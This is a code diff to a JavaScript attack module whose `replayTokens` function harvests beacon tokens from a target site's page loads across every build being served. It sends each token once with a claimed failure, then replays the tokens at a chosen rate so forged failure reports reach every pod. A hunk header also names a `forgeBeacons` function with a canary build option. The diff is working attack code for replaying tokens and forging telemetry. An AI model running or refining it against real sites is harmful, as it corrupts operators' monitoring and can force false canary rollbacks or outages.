@@ -70,8 +70,9 @@ export async function forgeBeacons({ target, rate, durationMs, canaryBuild = 'ca
 }
 
 /**
- * 2. Tokens harvested from a few page loads, each sent with a failure once and then replayed:
- * every beacon again and again, at any rate, reaching every pod in time.
+ * 2. Tokens harvested from page loads spread over the attack (`tokens` of them, so that pages
+ * of every build the site serves meanwhile are among them), each reported with a failure once
+ * and then replayed: every beacon again and again, at `rate` a second, reaching every pod.
  * @param {{ target: string, tokens: number, rate: number, durationMs: number, signal?: AbortSignal }} options
  */
 export async function replayTokens({ target, tokens, rate, durationMs, signal }) {
@@ -79,15 +80,24 @@ export async function replayTokens({ target, tokens, rate, durationMs, signal })
   const tally = {};
   /** @type {string[]} */
   const harvested = [];
-  while (harvested.length < tokens && !signal?.aborted) {
-    const { token } = await loadPage(target);
-    if (token) harvested.push(token);
-    else count(tally, 'page without token', 0);
-  }
+  const started = Date.now();
+  const harvest = (async () => {
+    for (let index = 0; index < tokens && !signal?.aborted; index += 1) {
+      await sleep(Math.max(0, started + (index * durationMs) / tokens - Date.now()));
+      const { token } = await loadPage(target);
+      if (!token) {
+        count(tally, 'page without token', 0);
+        continue;
+      }
+      count(tally, 'first use', await sendBeacon(target, { token, events: [CLAIMED_FAILURE] }));
+      harvested.push(token);
+    }
+  })();
   await paced({ rate, durationMs, signal }, async (index) => {
-    const token = harvested[index % harvested.length];
-    count(tally, index < harvested.length ? 'first use' : 'replay', await sendBeacon(target, { token, events: [CLAIMED_FAILURE] }));
+    const token = harvested[index % Math.max(1, harvested.length)];
+    if (token) count(tally, 'replay', await sendBeacon(target, { token, events: [CLAIMED_FAILURE] }));
   });
+  await harvest;
   return { tally, builds: harvested.map(buildOfToken) };
 }
 
